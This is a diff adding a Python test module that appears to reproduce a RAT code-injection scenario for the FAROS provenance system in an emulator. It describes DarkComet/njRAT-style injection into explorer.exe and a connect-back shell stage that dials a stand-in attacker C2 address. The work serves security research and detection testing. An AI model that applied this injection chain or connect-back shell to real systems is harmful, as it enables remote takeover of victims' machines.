@@ -1,0 +1,98 @@
+"""Code/process injection by DarkComet / Njrat-style RATs (§II, §VI).
+
+The RAT client downloads a connect-back shell stage from its C2, then
+forces ``explorer.exe`` to run it: ``OpenProcess`` ->
+``VirtualAllocEx(RWX)`` -> ``WriteProcessMemory`` ->
+``CreateRemoteThread``.  The stage, executing *inside the benign
+process*, resolves ``socket``/``connect``/``recv``/``WinExec`` from the
+export table, dials the C2, and executes whatever commands arrive --
+"forcing another process to perform actions on its behalf" while the
+RAT itself can exit.
+
+Netflow + malicious-process + victim-process tags converge on the
+stage's bytes, so the provenance FAROS reports matches the paper's
+reflective-DLL chains (§VI: "Results ... were similar").
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    ATTACKER_IP,
+    ATTACKER_PORT,
+    FIRST_EPHEMERAL_PORT,
+    GUEST_IP,
+    PAYLOAD_BASE,
+    assemble_image,
+    benign_host_asm,
+    recv_exact_asm,
+)
+from repro.attacks.metasploit import AttackScenario, _injector_asm
+from repro.attacks.payloads import build_shell_payload
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import PacketEvent, Scenario
+
+#: The C2 port the injected stage dials back to.
+C2_PORT = 5555
+
+
+def build_code_injection_scenario(
+    rat: str = "darkcomet",
+    target_name: str = "explorer.exe",
+    command: bytes = b"calc.exe",
+    transient: bool = False,
+) -> AttackScenario:
+    """Inject a connect-back shell into *target_name* and drive it.
+
+    *rat* picks the malware's process name (``darkcomet`` or ``njrat``
+    in the paper's evaluation); the injection mechanics are identical.
+    """
+    rat_image = f"{rat}.exe"
+    stage = build_shell_payload(
+        PAYLOAD_BASE, c2_ip=ATTACKER_IP, c2_port=C2_PORT, transient=transient
+    )
+    payload = stage.code
+
+    def setup(machine) -> None:
+        machine.kernel.register_image(
+            target_name, assemble_image(benign_host_asm(f"{target_name} up"))
+        )
+        machine.kernel.spawn(target_name)
+        # The RAT reuses the Meterpreter-style injector body; only the
+        # stage differs.  Its on-disk name is the RAT's.
+        source = _injector_asm(len(payload), target_name).replace(
+            'own_path: .asciz "inject_client.exe"',
+            f'own_path: .asciz "{rat_image}"',
+        )
+        machine.kernel.register_image(rat_image, assemble_image(source))
+        machine.kernel.spawn(rat_image)
+
+    events = [
+        # Stage delivery to the RAT's session socket.
+        (
+            20_000,
+            PacketEvent(
+                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
+            ),
+        ),
+        # A C2 command for the shell now running inside the victim
+        # (its connect-back takes the next ephemeral port).
+        (
+            120_000,
+            PacketEvent(
+                Packet(ATTACKER_IP, C2_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT + 1, command)
+            ),
+        ),
+    ]
+    return AttackScenario(
+        scenario=Scenario(
+            name=f"code_injection_{rat}",
+            setup=setup,
+            events=events,
+            max_instructions=600_000,
+        ),
+        client_process=rat_image,
+        target_process=target_name,
+        payload_size=len(payload),
+        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
+        module=f"code_injection({rat})",
+    )
